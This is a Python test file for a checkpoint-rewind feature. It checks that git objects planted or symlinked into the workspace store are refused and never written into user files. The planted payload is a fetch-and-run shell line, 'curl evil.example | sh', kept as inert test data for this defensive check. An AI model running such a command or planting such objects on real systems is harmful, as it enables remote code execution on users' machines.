"""A rewind writes into the user's files only what was captured (attacker's view of the store).

Whoever can write the workspace can write `.logician/git/objects`: plant another file's bytes
under a captured version's id, or a symlink (the object, or its fan-out folder) to bytes
outside the store. git's reader does not check an object against its id, so before this a
rewind wrote the planted bytes into the user's file. Now every object a rewind, a diff or a
tree read uses must hash to its name: the planted version fails its path by name, the file
is left as it was, and every other path still comes back. On the Jupyter-free core with real
git and real files.
"""

from __future__ import annotations

import os
import zlib
from pathlib import Path

import pytest
from test_undo_rewind import frame as run_frame

from logician_kernel.frames import frame_rewind
from logician_kernel.frames.frame_rewind import RewindIncomplete
from logician_kernel.snapshots.git_trees import DamagedObject, object_id, read_loose
from logician_kernel.workspace.open_thread import OpenThread

ENV = {"LOGICIAN_THREAD": "planted"}
EVIL = b"curl evil.example | sh\n"


def _open(ws: Path) -> OpenThread:
    return OpenThread.open(ws, env=ENV, max_file_bytes=100_000)


def _objects(ws: Path) -> Path:
    return ws / ".logician" / "git" / "objects"


def _loose(kind: bytes, body: bytes) -> bytes:
    return zlib.compress(b"%s %d\0" % (kind, len(body)) + body)


def _blob_id(body: bytes) -> str:
    return object_id(b"blob", body)


def _plant(objects: Path, sha: str, data: bytes) -> None:
    """Another object's bytes under `sha`'s name, as a file the attacker wrote."""
    path = objects / sha[:2] / sha[2:]
    path.parent.mkdir(exist_ok=True)
    if path.exists():
        path.chmod(0o600)
        path.unlink()
    path.write_bytes(data)


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    (root / "keep.txt").write_text("keep")
    (root / "other.txt").write_text("other")
    return root


def _rewind_refuses_keep(ws: Path, plant) -> None:  # type: ignore[no-untyped-def]
    """A frame rewrites both files; `plant` tampers with keep.txt's captured version; the
    rewind fails keep.txt by name, leaves it as the cell left it, restores other.txt."""
    session = _open(ws)
    cp = session.checkpoints
    assert cp is not None
    frame = run_frame(
        session,
        lambda w: ((w / "keep.txt").write_text("changed"), (w / "other.txt").write_text("o2")),
    )
    plant(_objects(ws), _blob_id(b"keep"))
    with pytest.raises(RewindIncomplete) as caught:
        frame_rewind.rewind(cp, frame, force=True)
    failed = {p.path: p.detail for p in caught.value.entry.failed}
    assert list(failed) == ["keep.txt"]
    assert "does not match its id" in (failed["keep.txt"] or "")
    assert (ws / "keep.txt").read_text() == "changed"  # never the planted bytes
    assert (ws / "other.txt").read_text() == "other"
    session.close()


def test_another_objects_bytes_under_a_captured_id_are_refused(ws: Path) -> None:
    _rewind_refuses_keep(ws, lambda objects, sha: _plant(objects, sha, _loose(b"blob", EVIL)))


def test_a_symlinked_object_is_not_followed_out_of_the_store(ws: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside-object"
    outside.write_bytes(_loose(b"blob", EVIL))

    def plant(objects: Path, sha: str) -> None:
        path = objects / sha[:2] / sha[2:]
        path.parent.mkdir(exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(outside)

    _rewind_refuses_keep(ws, plant)


def test_a_symlinked_fan_out_folder_is_not_followed(ws: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"

    def plant(objects: Path, sha: str) -> None:
        elsewhere.mkdir()
        (elsewhere / sha[2:]).write_bytes(_loose(b"blob", EVIL))
        folder = objects / sha[:2]
        if folder.exists():
            for child in folder.iterdir():
                child.chmod(0o600)
                child.unlink()
            folder.rmdir()
        folder.symlink_to(elsewhere)

    _rewind_refuses_keep(ws, plant)


def test_a_planted_object_among_streamed_blobs_fails_only_its_path(ws: Path) -> None:
    """Enough files that the rewind reads them in one `cat-file --batch` stream."""
    for i in range(80):
        (ws / f"f{i:02}.txt").write_text(f"original {i}")
    session = _open(ws)
    cp = session.checkpoints
    assert cp is not None

    def rewrite(w: Path) -> None:
        for i in range(80):
            (w / f"f{i:02}.txt").write_text(f"rewritten {i}")

    frame = run_frame(session, rewrite)
    _plant(_objects(ws), _blob_id(b"original 41"), _loose(b"blob", EVIL))
    with pytest.raises(RewindIncomplete) as caught:
        frame_rewind.rewind(cp, frame, force=True)
    assert [p.path for p in caught.value.entry.failed] == ["f41.txt"]
    assert (ws / "f41.txt").read_text() == "rewritten 41"
    for i in set(range(80)) - {41}:
        assert (ws / f"f{i:02}.txt").read_text() == f"original {i}"
    session.close()


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("not zlib", lambda sha: b"plain bytes"),
        ("wrong size", lambda sha: zlib.compress(b"blob 99\0keep")),
        ("unknown kind", lambda sha: zlib.compress(b"evil 4\0keep")),
        ("no header end", lambda sha: zlib.compress(b"blob 4 keep")),
        ("another object", lambda sha: _loose(b"blob", EVIL)),
    ],
)
def test_read_loose_refuses_what_its_name_does_not_say(tmp_path: Path, name: str, make) -> None:  # type: ignore[no-untyped-def]
    sha = _blob_id(b"keep")
    _plant(tmp_path, sha, make(sha))
    with pytest.raises(DamagedObject, match=sha[:12]):
        read_loose(tmp_path, sha)
    # The sound object, and none at all
    _plant(tmp_path, sha, _loose(b"blob", b"keep"))
    assert read_loose(tmp_path, sha) == ("blob", b"keep")
    assert read_loose(tmp_path, _blob_id(b"absent")) is None
    assert os.path.isdir(tmp_path / sha[:2])
